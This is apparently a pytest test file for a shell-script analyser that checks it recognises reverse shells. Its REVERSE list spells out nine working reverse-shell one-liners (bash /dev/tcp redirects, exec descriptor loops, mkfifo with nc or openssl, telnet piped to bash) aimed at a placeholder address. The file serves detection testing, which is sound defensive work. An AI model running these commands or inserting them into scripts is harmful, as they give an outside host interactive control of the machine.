"""Shells tied to sockets are recognised however descriptors and pipelines are arranged."""

from __future__ import annotations

import pytest

from tests.read.shell.scripts import lines

STDIO = "process.stdio socket 203.0.113.9 4444"
REVERSE = [
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "h=203.0.113.9; p=4444; sh -i >/dev/tcp/$h/$p 2>&1 <&1",
    "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
    'exec 3<>/dev/tcp/203.0.113.9/4444; while read -r c <&3; do eval "$c" >&3; done',
    "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s",
    "telnet 203.0.113.9 4444 | /bin/bash",
    "exec {s}<>/dev/tcp/203.0.113.9/4444; bash <&$s >&$s",
]


@pytest.mark.parametrize("text", REVERSE)
def test_reverse_shells_tie_a_shell_to_a_socket(text: str) -> None:
    assert STDIO in lines(text), lines(text)


@pytest.mark.parametrize(
    "text",
    [
        "timeout 1 bash -c '</dev/tcp/203.0.113.9/4444' && echo open",
        "echo ping > /dev/tcp/203.0.113.9/4444",
        "echo hi | nc 203.0.113.9 4444",
        "cat /dev/null | bash",
    ],
)
def test_a_connection_alone_is_no_reverse_shell(text: str) -> None:
    assert not [line for line in lines(text) if line.startswith("process.stdio")]


def test_a_connection_is_an_effect() -> None:
    assert lines("echo ping > /dev/udp/203.0.113.9/53") == ["net.connect udp 203.0.113.9 53"]
    assert lines(": < /dev/tcp/$H/22")[0].startswith('net.connect tcp "%{environment')
